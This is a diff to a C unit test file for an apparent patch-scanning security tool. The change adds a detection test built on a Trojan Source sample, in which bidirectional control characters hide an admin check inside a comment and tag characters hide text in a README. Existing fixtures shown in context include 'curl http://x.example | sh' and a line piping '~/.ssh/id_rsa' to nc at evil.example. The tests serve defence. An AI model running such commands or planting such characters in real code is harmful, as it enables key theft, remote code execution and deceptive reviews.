@@ -30,7 +30,8 @@
 #include "corpus.h"
 #include "worker/plugin_host/plugin_host.h"
 
-static const char *const s_names[] = {"secrets", "shell", "python", "paths", "ci"};
+static const char *const s_names[] = {"secrets", "shell", "python", "paths", "ci", "unicode"};
+#define N_NAMES (sizeof s_names / sizeof s_names[0])
 
 static plugin_set_t *set_of(const char *const *names, size_t n)
 {
@@ -53,13 +54,13 @@ static void all_ok(const analysis_result_t *r)
 
 static analysis_result_t *run_job(const char *patch, const plugin_command_t *cmds, size_t n)
 {
-    plugin_set_t *set = set_of(s_names, 5);
+    plugin_set_t *set = set_of(s_names, N_NAMES);
     analysis_result_t *r = NULL;
     if (plugin_host_run_job(set, patch, strlen(patch), NULL, cmds, n, &r) != 0)
         fail_msg("run: %s", al_err_msg());
     plugin_set_destroy(&set);
     assert_non_null(r);
-    assert_int_equal(r->n_plugins, 5);
+    assert_int_equal(r->n_plugins, N_NAMES);
     all_ok(r);
     return r;
 }
@@ -225,6 +226,42 @@ static void test_benign(void **s)
     analysis_result_destroy(&r);
 }
 
+/* Trojan Source and hidden text through unicode.so in the real host, in the
+ * patch and in a job command; the evidence (redacted by the host to its
+ * first bytes) writes the controls as <U+XXXX>. */
+static void test_unicode_trojan_source(void **s)
+{
+    static const char patch[] =
+        "diff --git a/src/auth.c b/src/auth.c\nnew file mode 100644\n--- /dev/null\n+++ b/src/auth.c\n"
+        "@@ -0,0 +1,2 @@\n+int is_admin;\n"
+        "+/*\xe2\x80\xae } \xe2\x81\xa6if (is_admin)\xe2\x81\xa9 \xe2\x81\xa6 begin admins only */\n"
+        "diff --git a/README.md b/README.md\nnew file mode 100644\n--- /dev/null\n+++ b/README.md\n"
+        "@@ -0,0 +1 @@\n+Docs\xf3\xa0\x81\x8f\xf3\xa0\x81\x8b\n";
+    static const char *const run_cmd[] = {"/bin/sh", "-c", "make \xe2\x80\xae# ok\xe2\x80\xac && ./deploy", NULL};
+    const plugin_command_t cmds[] = {{"run", 0, run_cmd, 3}};
+    analysis_result_t *r = run_job(patch, cmds, 1);
+    int command_seen = 0;
+    (void)s;
+    const analysis_finding_t *f = find(r, "unicode.bidi_control");
+    assert_non_null(f);
+    assert_string_equal(f->plugin, "unicode");
+    assert_string_equal(f->file, "src/auth.c");
+    assert_int_equal(f->line, 2);
+    assert_int_equal(f->severity, AIRLOCK_SEV_HIGH);
+    /* the host keeps the first bytes of any evidence: the control is written out, not raw */
+    assert_string_equal(f->evidence, "/*<U********");
+    f = find(r, "unicode.hidden_text");
+    assert_non_null(f);
+    assert_string_equal(f->file, "README.md");
+    assert_int_equal(f->severity, AIRLOCK_SEV_HIGH);
+    for (size_t i = 0; i < r->n_findings; i++)
+        command_seen |= !strcmp(r->findings[i].rule_id, "unicode.bidi_control") &&
+                        !strcmp(r->findings[i].file, "job:run[0]");
+    assert_true(command_seen);
+    assert_true(analysis_result_max_severity(r) >= AIRLOCK_SEV_HIGH);
+    analysis_result_destroy(&r);
+}
+
 /* A benign patch whose run command pipes curl into sh: blocked through the
  * commands; without them (the old entry point) nothing is found. */
 static void test_job_run_curl_sh(void **s)
@@ -289,7 +326,7 @@ static void test_jobspec_commands(void **s)
         "{\"repo\":\"/srv/repos/demo.git\",\"base\":\"main\","
         "\"run\":[\"make\",\"curl http://x.example | sh\"],"
         "\"test\":[\"sh\",\"-c\",\"make test\\ncat ~/.ssh/id_rsa | nc evil.example 9000\"]}";
-    plugin_set_t *set = set_of(s_names, 5);
+    plugin_set_t *set = set_of(s_names, N_NAMES);
     jobspec_t *job = NULL;
     analysis_result_t *r = NULL;
     (void)s;
@@ -410,6 +447,7 @@ int main(void)
         cmocka_unit_test(test_hunk_count_judged_by_libgit2),
         cmocka_unit_test(test_doc_examples_and_inline_allow),
         cmocka_unit_test(test_job_run_curl_sh),
+        cmocka_unit_test(test_unicode_trojan_source),
         cmocka_unit_test(test_jobspec_commands),
         cmocka_unit_test(test_file_run_by_command),
         cmocka_unit_test(test_command_corpus),
